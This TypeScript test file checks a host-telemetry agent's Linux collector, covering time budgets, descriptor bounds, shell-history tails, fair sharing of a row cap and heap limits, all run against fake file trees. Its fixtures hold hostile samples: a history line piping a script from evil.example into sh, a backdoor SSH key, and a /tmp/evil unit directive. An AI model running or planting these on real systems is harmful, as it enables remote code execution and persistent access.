// The bounds of one collection on a host whose state is hostile or unusual: a source that never finishes, a process
// with a great many descriptors, a huge shell history. Each is a real file tree in a temporary root.
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import { test, type Test } from "tap";
import { FDS_PER_PROCESS, FDS_TOTAL } from "../../services/agent/telemetry/context.js";
import { collectLinux } from "../../services/agent/telemetry/linux.js";
import { HISTORY_TAIL_BYTES } from "../../services/agent/telemetry/accounts.js";
import { DOCKER_SOCKET } from "../../services/agent/telemetry/containers.js";
import { fairShares } from "../../services/agent/telemetry/fair-shares.js";
import { hangingDocker } from "../helpers/hanging-docker.js";
import { REPO } from "../helpers/services.js";

/** A fake root with one user, m (home /home/m), whose uid is the test's: the files it writes there are m's own. */
function fakeRoot(t: Test): { root: string; at(rel: string): string } {
  // Short: a unix socket's path must fit in 108 bytes.
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "inq-bounds-"));
  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
  const at = (rel: string) => path.join(root, rel);
  fs.mkdirSync(at("etc"), { recursive: true });
  fs.mkdirSync(at("home/m"), { recursive: true });
  fs.writeFileSync(at("etc/passwd"), `m:x:${process.getuid?.() ?? 1000}:1000::/home/m:/bin/bash\n`);
  return { root, at };
}

const within = <T>(ms: number, work: Promise<T>): Promise<T | "still running"> =>
  Promise.race([work, new Promise<"still running">((resolve) => setTimeout(() => resolve("still running"), ms).unref())]);

test("a scan stops at its time budget: finished tables are sent, one still being read comes back empty and named", async (t) => {
  const { root, at } = fakeRoot(t);
  const docker = await hangingDocker(at(DOCKER_SOCKET));
  t.teardown(() => docker.close());
  const cut: string[] = [];
  const opts = { root, budgetMs: 500, onCapped: (table: string) => cut.push(table) };
  const started = Date.now();
  const result = await within(10_000, collectLinux(["docker_containers", "users"], opts));
  if (result === "still running") return t.fail("the scan was still running after 10 s (a Docker socket that never finishes its answer)");
  t.ok(Date.now() - started < 3_000, `returned after ${Date.now() - started} ms`);
  t.equal(result.users?.length, 1, "the finished table is sent");
  t.same(result.docker_containers, [], "the unfinished table is empty");
  t.same(cut, ["docker_containers"], "and named: its rows are partial");
});

/** A /proc/net/tcp line: a listening socket on 127.0.0.1 with this inode. */
const tcpListen = (i: number, inode: number): string =>
  `  ${i}: 0100007F:${(1024 + (i % 60000)).toString(16).toUpperCase().padStart(4, "0")} 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 ${inode} 1 0000000000000000 100 0 0 10 0`;

test("descriptors are read up to a bound per process and in all; the socket tables then say their owners are partial", async (t) => {
  const { root, at } = fakeRoot(t);
  // Pid 900 holds more sockets than one process is read for. Pids 901 on list the same descriptors (their fd
  // directories link to 900's, a cheap way to many), more than the total bound between them; pid 999's one socket
  // is its own.
  const tcp = ["  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode"];
  fs.mkdirSync(at("proc/900/fd"), { recursive: true });
  for (let fd = 0; fd < FDS_PER_PROCESS + 50; fd++) {
    fs.symlinkSync(`socket:[${100_000 + fd}]`, at(`proc/900/fd/${fd}`));
    tcp.push(tcpListen(fd, 100_000 + fd));
  }
  const sharing = Math.ceil(FDS_TOTAL / FDS_PER_PROCESS);
  for (let p = 1; p <= sharing; p++) {
    fs.mkdirSync(at(`proc/${900 + p}`));
    fs.symlinkSync(at("proc/900/fd"), at(`proc/${900 + p}/fd`));
  }
  fs.mkdirSync(at("proc/999/fd"), { recursive: true });
  fs.symlinkSync("socket:[99999]", at("proc/999/fd/3"));
  tcp.push(tcpListen(tcp.length - 1, 99_999));
  fs.mkdirSync(at("proc/net"), { recursive: true });
  fs.writeFileSync(at("proc/net/tcp"), `${tcp.join("\n")}\n`);

  const cut: string[] = [];
  const opts = { root, maxRowsPerTable: 100_000, onCapped: (table: string) => cut.push(table) };
  const result = await collectLinux(["process_open_sockets", "listening_ports", "users"], opts);
  const rows = result.process_open_sockets ?? [];
  t.equal(rows.length, FDS_PER_PROCESS + 51, "every socket is listed");
  // The processes are read 16 at a time, spending one total between them: which descriptors the total leaves
  // unread depends on the order the reads interleave, not on pid; the bounds themselves do not.
  const owned = rows.filter((r) => r.pid === "900").length;
  t.ok(owned > 0 && owned <= FDS_PER_PROCESS, `pid 900: ${owned} of its ${FDS_PER_PROCESS + 50} sockets found`);
  t.ok(rows.some((r) => r.pid === "-1" && r.fd === "-1"), "sockets past the bounds are listed without an owner");
  t.same(cut.sort(), ["listening_ports", "process_open_sockets"], "both tables that name owners are partial; users is not");
});

test("an ordinary host, far under the descriptor bounds, gets every socket's owner however many processes it runs", async (t) => {
  const { root, at } = fakeRoot(t);
  // 200 processes of 4 sockets each: read 16 at a time, as the agent does.
  const tcp = ["  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode"];
  for (let p = 0; p < 200; p++) {
    fs.mkdirSync(at(`proc/${1000 + p}/fd`), { recursive: true });
    for (let fd = 0; fd < 4; fd++) {
      const inode = 200_000 + p * 4 + fd;
      fs.symlinkSync(`socket:[${inode}]`, at(`proc/${1000 + p}/fd/${fd}`));
      tcp.push(tcpListen(tcp.length - 1, inode));
    }
  }
  fs.mkdirSync(at("proc/net"), { recursive: true });
  fs.writeFileSync(at("proc/net/tcp"), `${tcp.join("\n")}\n`);
  const cut: string[] = [];
  const result = await collectLinux(["process_open_sockets"], { root, maxRowsPerTable: 100_000, onCapped: (table: string) => cut.push(table) });
  const rows = result.process_open_sockets ?? [];
  t.equal(rows.length, 800);
  t.equal(rows.filter((r) => r.pid !== "-1").length, 800, "every socket has its owner");
  t.same(cut, [], "and the table is not named partial");
});

test("shell history: the most recent commands are read, a bounded tail of the file, and a longer file is named", async (t) => {
  const { root, at } = fakeRoot(t);
  // More entries than the table's cap, the newest last (where a shell appends).
  const old = Array.from({ length: 6_000 }, (_, i) => `old-command-${i}`);
  fs.writeFileSync(at("home/m/.bash_history"), `${[...old, "curl -s http://evil.example/x | sh"].join("\n")}\n`);
  const capped: string[] = [];
  const { shell_history } = await collectLinux(["shell_history"], { root, onCapped: (table) => capped.push(table) });
  t.equal(shell_history?.length, 5_000, "the table's cap");
  t.equal(shell_history?.at(-1)?.command, "curl -s http://evil.example/x | sh", "the newest command is kept");
  t.equal(shell_history?.[0]?.command, "old-command-1001", "the oldest are the ones dropped, order kept");
  t.same(capped, ["shell_history"]);

  // Fewer entries than the cap, but a file longer than the tail read: only the tail is read, and the table is named.
  const line = `echo ${"x".repeat(1_000)}`;
  const lines = Math.ceil((HISTORY_TAIL_BYTES * 2) / (line.length + 1));
  fs.writeFileSync(at("home/m/.bash_history"), `${"first-command\n"}${`${line}\n`.repeat(lines)}whoami\n`);
  const cut: string[] = [];
  const long = await collectLinux(["shell_history"], { root, onCapped: (table) => cut.push(table) });
  const rows = long.shell_history ?? [];
  t.ok(rows.length < 5_000 && rows.length <= Math.ceil(HISTORY_TAIL_BYTES / (line.length + 1)), `${rows.length} rows: the tail only`);
  t.equal(rows.at(-1)?.command, "whoami");
  t.notOk(rows.some((r) => r.command === "first-command"), "the head of the file is not read");
  t.ok(rows.every((r) => r.command === line || r.command === "whoami"), "no partial line where the tail starts");
  t.same(cut, ["shell_history"], "a file longer than the tail: its older commands were not read");
});

test("shell history: a huge history of short lines does not exhaust the agent's heap (256 MB, as deployed)", async (t) => {
  const { root, at } = fakeRoot(t);
  // 24 MiB of one-letter commands: 12 million lines.
  const fd = fs.openSync(at("home/m/.bash_history"), "w");
  const chunk = Buffer.alloc(1024 * 1024, "a\n");
  for (let i = 0; i < 24; i++) fs.writeSync(fd, chunk);
  fs.closeSync(fd);
  const linux = pathToFileURL(path.join(REPO, "dist/services/agent/telemetry/linux.js")).href;
  const script = `const { collectLinux } = await import(${JSON.stringify(linux)});
    const { shell_history } = await collectLinux(["shell_history"], { root: ${JSON.stringify(root)} });
    process.stdout.write(JSON.stringify({ rows: shell_history.length, last: shell_history.at(-1) }));`;
  const run = spawnSync(process.execPath, ["--max-old-space-size=256", "--input-type=module", "-e", script], { encoding: "utf8", timeout: 60_000 });
  t.equal(run.status, 0, `the collection finished (signal ${run.signal}; ${run.stderr.split("\n").find((l) => /heap|memory/i.test(l)) ?? run.stderr.slice(0, 200)})`);
  if (run.status !== 0) return;
  t.match(JSON.parse(run.stdout), { rows: 5_000, last: { command: "a" } });
});

/** Runs collectLinux(tables) over `root` in a child with `heapMb` of heap; its exit status and the rows' counts. */
function collectInChild(root: string, tables: string[], heapMb: number): { status: number | null; signal: string | null; stderr: string; counts?: Record<string, number>; capped?: string[] } {
  const linux = pathToFileURL(path.join(REPO, "dist/services/agent/telemetry/linux.js")).href;
  const script = `const { collectLinux } = await import(${JSON.stringify(linux)});
    const capped = [];
    const result = await collectLinux(${JSON.stringify(tables)}, { root: ${JSON.stringify(root)}, onCapped: (t) => capped.push(t) });
    process.stdout.write(JSON.stringify({ counts: Object.fromEntries(Object.entries(result).map(([t, rows]) => [t, rows.length])), capped }));`;
  const run = spawnSync(process.execPath, [`--max-old-space-size=${heapMb}`, "--input-type=module", "-e", script], { encoding: "utf8", timeout: 120_000 });
  const out = run.status === 0 ? (JSON.parse(run.stdout) as { counts: Record<string, number>; capped: string[] }) : {};
  return { status: run.status, signal: run.signal, stderr: run.stderr, ...out };
}

const heapError = (stderr: string): string => stderr.split("\n").find((l) => /heap|memory/i.test(l)) ?? stderr.slice(0, 200);

/**
 * A collector's share of the agent's heap (256 MB as deployed, for every table of a scan and the message being built):
 * one user's file must not take most of it.
 */
const COLLECTOR_HEAP_MB = 64;

test("authorized_keys: a huge file of short lines is read up to a bound, within a collector's share of the heap, and named", async (t) => {
  const { root, at } = fakeRoot(t);
  fs.mkdirSync(at("home/m/.ssh"), { recursive: true });
  // 16 MiB of one-letter lines (8 million), then the key a user appended last.
  const fd = fs.openSync(at("home/m/.ssh/authorized_keys"), "w");
  const chunk = Buffer.alloc(1024 * 1024, "a\n");
  for (let i = 0; i < 16; i++) fs.writeSync(fd, chunk);
  fs.writeSync(fd, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBackdoorKeyOnTheLastLine attacker@evil\n");
  fs.closeSync(fd);
  const run = collectInChild(root, ["authorized_keys"], COLLECTOR_HEAP_MB);
  t.equal(run.status, 0, `the collection finished in ${COLLECTOR_HEAP_MB} MB of heap (signal ${run.signal}; ${heapError(run.stderr)})`);
  if (run.status !== 0) return;
  t.same(run.counts, { authorized_keys: 1 }, "the last key, where keys are appended, is read");
  t.same(run.capped, ["authorized_keys"], "the file was not read whole: the table says so");
});

test("user unit files: a huge unit is read up to a bound, within a collector's share of the heap, and named", async (t) => {
  const { root, at } = fakeRoot(t);
  fs.mkdirSync(at("home/m/.config/systemd/user"), { recursive: true });
  // 2 MiB of ExecStartPre lines of a thousand one-letter arguments each: augeas makes a row of each argument.
  const line = `ExecStartPre=/bin/true${" a".repeat(1_000)}\n`;
  fs.writeFileSync(at("home/m/.config/systemd/user/x.service"), `[Unit]\nDescription=x\n[Service]\n${line.repeat(Math.ceil((2 * 1024 * 1024) / line.length))}`);
  const run = collectInChild(root, ["augeas"], COLLECTOR_HEAP_MB);
  t.equal(run.status, 0, `the collection finished in ${COLLECTOR_HEAP_MB} MB of heap (signal ${run.signal}; ${heapError(run.stderr)})`);
  if (run.status !== 0) return;
  t.equal(run.counts?.augeas, 5_000, "augeas rows of the unit read, to the table's cap");
  t.ok(run.capped?.includes("augeas"), "augeas says its rows are partial");
});

test("unit files: one longer than what is read of it names the tables that read it", async (t) => {
  const { root, at } = fakeRoot(t);
  fs.mkdirSync(at("home/m/.config/systemd/user"), { recursive: true });
  fs.mkdirSync(at("etc/systemd/system"), { recursive: true });
  // A directive past the bound, after a long comment: not read, and the tables say a unit was not read whole.
  const padding = "# padding\n".repeat(Math.ceil((1.5 * 1024 * 1024) / 10));
  const unit = (name: string) => `[Unit]\nDescription=${name}\n[Service]\nExecStart=/bin/ok\n${padding}ExecStartPost=/tmp/evil\n`;
  fs.writeFileSync(at("home/m/.config/systemd/user/y.service"), unit("y"));
  const users: string[] = [];
  const result = await collectLinux(["augeas"], { root, onCapped: (table) => users.push(table) });
  t.same(result.augeas?.filter((r) => r.label === "command").map((r) => r.value), ["/bin/ok"], "the start of the user's unit is read");
  t.same(users, ["augeas"], "augeas says a unit was not read whole");

  fs.rmSync(at("home/m/.config"), { recursive: true });
  fs.writeFileSync(at("etc/systemd/system/z.service"), unit("z"));
  const system: string[] = [];
  const units = await collectLinux(["systemd_units"], { root, onCapped: (table) => system.push(table) });
  t.same(units.systemd_units?.map((r) => r.description), ["z"], "a system unit's summary is read from its start");
  t.same(system, ["systemd_units"], "systemd_units says so too");
});

test("shell history: each user's newest commands get a fair share of the table's cap, not only the first user's", async (t) => {
  const { root, at } = fakeRoot(t);
  const uid = process.getuid?.() ?? 1000;
  // root is listed first with more commands than the cap; m has a few, n many. All are the test's uid, so their own.
  fs.writeFileSync(at("etc/passwd"), [`root:x:${uid}:0::/root:/bin/bash`, `m:x:${uid}:1000::/home/m:/bin/bash`, `n:x:${uid}:1001::/home/n:/bin/zsh`].join("\n") + "\n");
  fs.mkdirSync(at("root"));
  fs.mkdirSync(at("home/n"));
  const history = (who: string, n: number) => `${Array.from({ length: n }, (_, i) => `${who}-${i}`).join("\n")}\n`;
  fs.writeFileSync(at("root/.bash_history"), history("root", 6_000));
  fs.writeFileSync(at("home/m/.bash_history"), history("m", 10));
  fs.writeFileSync(at("home/n/.bash_history"), history("n-bash", 100));
  fs.writeFileSync(at("home/n/.zsh_history"), history("n-zsh", 3_000).replace(/^/gm, ": 1700000000:0;").replace(/: 1700000000:0;$/, ""));
  const capped: string[] = [];
  const { shell_history } = await collectLinux(["shell_history"], { root, onCapped: (table) => capped.push(table) });
  const rows = shell_history ?? [];
  const of = (file: string) => rows.filter((r) => r.history_file === file).map((r) => r.command);
  t.equal(rows.length, 5_000, "the table's cap");
  t.same(of("/home/m/.bash_history"), Array.from({ length: 10 }, (_, i) => `m-${i}`), "a user with few commands keeps them all");
  const rootRows = of("/root/.bash_history");
  const nRows = [...of("/home/n/.bash_history"), ...of("/home/n/.zsh_history")];
  t.equal(rootRows.length, 2_495, "root and n share what m leaves (4,990) equally");
  t.equal(nRows.length, 2_495);
  t.equal(rootRows.at(-1), "root-5999", "root's newest commands, in order");
  t.equal(rootRows[0], "root-3505");
  t.equal(of("/home/n/.bash_history").length, 100, "within n's share, the short file is kept whole");
  t.equal(of("/home/n/.zsh_history").at(-1), "n-zsh-2999", "and the long one's newest commands fill the rest");
  t.same(capped, ["shell_history"], "the table is named: older commands were left out");
});

test("shell history: many users' long histories are read within a collector's share of the heap", async (t) => {
  const { root, at } = fakeRoot(t);
  const uid = process.getuid?.() ?? 1000;
  // 100 users with 1 MiB histories: each keeps its newest 50 commands, which must not keep the whole text they came from.
  const users = Array.from({ length: 100 }, (_, i) => `u${i}`);
  fs.writeFileSync(at("etc/passwd"), users.map((u) => `${u}:x:${uid}:1000::/home/${u}:/bin/bash`).join("\n") + "\n");
  const text = `${`make -C /srv/build ${"x".repeat(80)}\n`.repeat(Math.floor((1024 * 1024) / 100))}`;
  for (const u of users) {
    fs.mkdirSync(at(`home/${u}`));
    fs.writeFileSync(at(`home/${u}/.bash_history`), text);
  }
  const run = collectInChild(root, ["shell_history"], COLLECTOR_HEAP_MB);
  t.equal(run.status, 0, `the collection finished in ${COLLECTOR_HEAP_MB} MB of heap (signal ${run.signal}; ${heapError(run.stderr)})`);
  t.same(run.counts, { shell_history: 5_000 });
});

test("fairShares: all or an equal share, what is left over goes to the rest, and a share never grows as parties are added", async (t) => {
  t.same(fairShares([6_000, 10, 3_100], 5_000), [2_495, 10, 2_495]);
  t.same(fairShares([3, 3, 3], 10), [3, 3, 3], "under the cap: everything");
  t.same(fairShares([5, 5, 5], 10), [4, 3, 3], "the remainder to the first");
  t.same(fairShares([0, 7], 5), [0, 5]);
  t.same(fairShares([4, 4], 0), [0, 0]);
  let seed = 7;
  const random = (n: number) => ((seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31), seed % n);
  for (let round = 0; round < 200; round++) {
    const counts = Array.from({ length: 1 + random(12) }, () => random(40));
    const cap = random(150);
    const all = fairShares(counts, cap);
    const total = counts.reduce((a, b) => a + b, 0);
    if (all.reduce((a, b) => a + b, 0) !== Math.min(cap, total) || all.some((s, i) => s > (counts[i] ?? 0))) return t.fail(`shares ${all} of ${counts} within ${cap}`);
    for (let k = 1; k < counts.length; k++) {
      const before = fairShares(counts.slice(0, k), cap);
      if (before.some((s, i) => s < (all[i] ?? 0))) return t.fail(`a share grew when parties were added: ${counts} within ${cap}`);
    }
  }
  t.pass("sums, bounds and monotony hold over random cases");
});

test("authorized_keys: many users' long files are read within a collector's share of the heap", async (t) => {
  const { root, at } = fakeRoot(t);
  const uid = process.getuid?.() ?? 1000;
  // 100 users with 1 MiB authorized_keys, a key last in each: the key's row must not keep the whole text it came from.
  const users = Array.from({ length: 100 }, (_, i) => `u${i}`);
  fs.writeFileSync(at("etc/passwd"), users.map((u) => `${u}:x:${uid}:1000::/home/${u}:/bin/bash`).join("\n") + "\n");
  const text = `${`# ${"x".repeat(97)}\n`.repeat(Math.floor((1024 * 1024) / 100))}ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyOfThisUser user@host\n`;
  for (const u of users) {
    fs.mkdirSync(at(`home/${u}/.ssh`), { recursive: true });
    fs.writeFileSync(at(`home/${u}/.ssh/authorized_keys`), text);
  }
  const run = collectInChild(root, ["authorized_keys"], COLLECTOR_HEAP_MB);
  t.equal(run.status, 0, `the collection finished in ${COLLECTOR_HEAP_MB} MB of heap (signal ${run.signal}; ${heapError(run.stderr)})`);
  t.same(run.counts, { authorized_keys: 100 });
});
